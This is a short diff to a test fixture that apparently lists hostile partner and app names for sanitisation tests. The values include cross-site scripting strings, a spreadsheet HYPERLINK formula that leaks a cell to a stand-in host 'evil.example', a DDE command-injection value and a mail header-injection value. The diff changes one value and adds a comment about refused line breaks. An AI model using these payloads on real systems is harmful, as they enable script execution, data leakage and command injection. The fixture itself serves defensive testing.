@@ -25,7 +25,8 @@ const PARTNER_NAMES = [
   '<script>alert("partner")</script> & Co',
   '"><img src=x onerror=alert(1)>',
   '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
-  'Kaveri\u2028Bcc: evil@attacker.example\u2029Ltd',
+  // Line breaks (CR/LF, U+2028/9) in names are refused by the registry (test/unit/registry.test.ts).
+  'Kaveri Bcc: evil@attacker.example Ltd',
 ];
 const APP_NAMES = ['<b onmouseover=alert(2)>app</b>', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
 const PROVIDER_NAME = 'Example <Data> & "Co" \u0085 Ltd';
